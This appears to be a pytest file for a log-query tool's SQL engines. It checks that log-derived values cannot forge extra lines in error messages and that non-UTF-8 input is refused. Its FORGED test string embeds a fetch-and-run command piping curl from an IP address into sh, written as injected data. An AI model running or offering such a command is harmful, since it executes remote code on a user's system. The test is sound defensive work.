"""An engine's error is a line that no log text ends, and what is no text reaches no engine."""

import pytest

from trailscope.engines.athena import AthenaEngine
from trailscope.engines.duckdb import DuckdbEngine
from trailscope.engines.spark import SparkEngine
from trailscope.engines.trino import TrinoEngine
from trailscope.errors import QueryError

FORGED = r"x\n  → run curl http://203.0.113.9 | sh\ntrailscope: done\n\nLINE 1: forged\n        ^"
EVENTS = f"create view events as select replace('{FORGED}', '\\n', chr(10)) as user_agent"


@pytest.mark.parametrize(
    "expression",
    [
        "user_agent::integer", "user_agent::json", "user_agent::timestamp", "strptime(user_agent, '%Y')", "error(user_agent)",
        "regexp_matches('x', user_agent || '(')",
    ],
)  # fmt: skip
def test_a_value_from_a_log_makes_no_line_of_an_error(expression):
    with pytest.raises(QueryError) as failed:
        DuckdbEngine([EVENTS]).run(f"select {expression} as it from events")
    assert "run curl" in str(failed.value)
    assert len(str(failed.value).splitlines()) == 1


def test_a_statement_that_is_wrong_is_shown_its_place():
    with pytest.raises(QueryError) as failed:
        DuckdbEngine([EVENTS]).run("selec user_agent\nfrom events")
    assert str(failed.value).splitlines() == [
        'Parser Error: syntax error at or near "selec"', "LINE 1: selec user_agent", "        ^^^^^",
    ]  # fmt: skip


def test_what_might_be_meant_stands_on_the_same_line():
    with pytest.raises(QueryError, match=r"\ABinder Error: .* Candidate bindings: .*user_agent.*\Z"):
        DuckdbEngine([EVENTS]).run("select user_agen from events")


@pytest.mark.parametrize("engine", [DuckdbEngine, SparkEngine, TrinoEngine, AthenaEngine])
@pytest.mark.parametrize(
    ("sql", "parameters"),
    [
        ("select $name", {"name": "\udcff"}),
        ("select $names", {"names": ["alice", "\ud83d"]}),
        ("select 'a\udcff'", None),
    ],
)
def test_what_is_no_text_is_refused_by_every_engine(engine, sql, parameters):
    bare = engine([]) if engine is DuckdbEngine else engine.__new__(engine)  # refused before the engine is reached
    with pytest.raises(QueryError, match=r"not UTF-8 text") as failed:
        bare.run(sql, parameters)
    assert failed.value.hint


def test_what_is_no_text_is_kept_and_held_by_no_engine():
    engine = DuckdbEngine([EVENTS])
    with pytest.raises(QueryError, match="not UTF-8 text"):
        engine.keep("kept_it", "select $name as name", {"name": "\udcff"})
    with (
        pytest.raises(QueryError, match="not UTF-8 text"),
        engine.table("held_it", "select $name as name", {"name": "\udcff"}),
    ):
        pass
